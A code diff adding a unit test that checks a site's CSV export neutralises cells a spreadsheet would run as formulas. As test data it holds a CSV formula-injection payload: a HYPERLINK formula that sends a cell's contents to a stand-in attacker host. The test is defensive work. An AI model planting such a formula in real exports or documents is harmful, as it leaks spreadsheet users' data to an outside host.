@@ -51,6 +51,31 @@ describe('exports', () => {
     expect(lines[1]).toContain('"Extends b-one"');
     expect(lines.at(-1)).toBe('');
   });
+
+  it('neutralises CSV cells a spreadsheet would run as formulas, keeping the JSON text exact', () => {
+    const payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+    const hostile = buildSiteModel(
+      content({
+        briefings: [briefing('a')],
+        recommendations: [recommendation('a-one', 'a', { title: payload, summary: ' @SUM(1+1)', tags: [{ id: 'sanctions' }, { id: 'evil' }] })],
+        tags: [tag('sanctions', 'Sanctions'), tag('evil', '-2+3')],
+      }),
+    );
+    const [row] = recommendationRows(hostile, 'https://example.org');
+    expect(row?.title).toBe(payload);
+    expect(row?.summary).toBe(' @SUM(1+1)');
+    const line = toCsv(row ? [row] : []).split('\r\n')[1];
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
+    expect(line).toContain(`"' @SUM(1+1)"`);
+    expect(line).toContain(`"Sanctions; '-2+3"`);
+
+    const cell = (title: string) => toCsv([{ ...rows[1]!, title }]).split('\r\n')[1]?.split(',')[2];
+    for (const start of ['=', '+', '-', '@', '\t', '\r', ' =', '\t=', '\u00a0+']) expect(cell(`${start}1`)).toBe(`"'${start}1"`);
+    expect(toCsv([rows[1]!]).split('\r\n')[1]).toBe(
+      '"a-two","https://example.org/sub/recommendations/a-two/","Recommendation a-two","Do something.","a","Briefing a","Analyst of a","A report","Sanctions","",""',
+    );
+    for (const ordinary of ['Cut aid', 'Aid = leverage', 'e-mail @ once', "'quoted", ' indented']) expect(cell(ordinary)).toBe(`"${ordinary}"`);
+  });
 });
 
 describe('structured data and sitemap', () => {
